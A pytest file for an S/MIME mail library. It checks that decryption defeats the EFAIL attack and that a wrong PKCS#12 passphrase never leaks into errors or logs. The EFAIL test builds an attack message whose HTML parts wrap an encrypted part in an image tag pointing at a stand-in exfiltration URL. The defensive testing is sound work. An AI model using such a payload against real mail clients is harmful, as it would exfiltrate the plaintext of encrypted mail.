"""E6 (EFAIL): decrypted content stays its own document; the PKCS#12 passphrase never shows (K1)."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from mailconduit import Secret
from mailconduit.testing import canary
from mailconduit_smime import AccountKeys, DecryptTransform, KeyFileError, SignSettings, SignTransform
from mailconduit_smime._encrypt import encrypt_message
from mailconduit_smime._settings import SmimeSettings

from .conftest import Identity, MakeAccount, message

ATTACKER = b'<img src="http://attacker.invalid/exfil?'


def _efail_message(bob: Identity) -> bytes:
    encrypted = encrypt_message(message(to="bob@example.test", body="secret quarterly numbers\n"), [bob.cert])
    entity = encrypted.split(b"MIME-Version: 1.0\r\n", 1)[1]
    return (
        b"From: mallory@attacker.invalid\r\nTo: bob@example.test\r\nSubject: re\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/html\r\n\r\n" + ATTACKER + b"\r\n"
        b"--B\r\n" + entity + b"\r\n"
        b'--B\r\nContent-Type: text/html\r\n\r\n">\r\n'
        b"--B--\r\n"
    )


def test_decrypted_part_is_never_joined_with_the_attacker_html(
    make_account: MakeAccount, bob: Identity
) -> None:
    raw = _efail_message(bob)
    decrypt = DecryptTransform(AccountKeys("bob", make_account(bob).section("smime", SmimeSettings)))  # type: ignore[arg-type]
    result = decrypt.apply(raw)
    notes = result.annotations
    assert notes["smime.decrypted"] == "yes"
    assert notes["smime.decrypted_part"] == "2"
    assert notes["smime.unencrypted_parts_left_out"] == "2"
    assert b"secret quarterly numbers" in result.data
    assert ATTACKER not in result.data and b"attacker.invalid/exfil" not in result.data
    assert b"From: mallory@attacker.invalid" in result.data  # the outer headers, for the record


def test_a_wrong_passphrase_never_shows(
    alice: Identity, tmp_path: Path, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    right, wrong = canary("passphrase"), canary("passphrase")
    p12 = alice.pkcs12(tmp_path / "alice.p12", right)
    settings = SmimeSettings(sign=SignSettings(pkcs12=str(p12), passphrase=Secret(wrong)))
    caplog.set_level(logging.DEBUG)
    with pytest.raises(KeyFileError) as caught:
        SignTransform(AccountKeys("alice", settings)).apply(message())
    shown = f"{caught.value}\n{caught.value!r}\n{settings!r}\n{caplog.text}\n{capsys.readouterr()}"
    assert "wrong passphrase" in str(caught.value) and "accounts.alice.smime.sign.pkcs12" in str(caught.value)
    assert right not in shown and wrong not in shown
    # and the right one signs
    ok = SmimeSettings(sign=SignSettings(pkcs12=str(p12), passphrase=Secret(right)))
    assert SignTransform(AccountKeys("alice", ok)).apply(message()).annotations["smime.signed"] == "detached"
